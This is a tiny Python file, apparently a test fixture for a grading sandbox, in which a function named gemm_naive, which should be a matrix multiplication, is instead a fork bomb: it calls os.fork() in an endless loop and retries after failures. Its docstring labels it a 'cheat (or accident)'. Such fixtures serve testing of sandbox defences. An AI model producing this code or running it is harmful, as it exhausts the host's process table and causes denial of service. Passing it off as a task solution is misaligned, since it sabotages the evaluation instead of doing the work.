"""Cheat (or accident): fork until no process can be started, and keep trying."""

import os
import time


def gemm_naive(A, B, C, alpha, beta):
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.5)
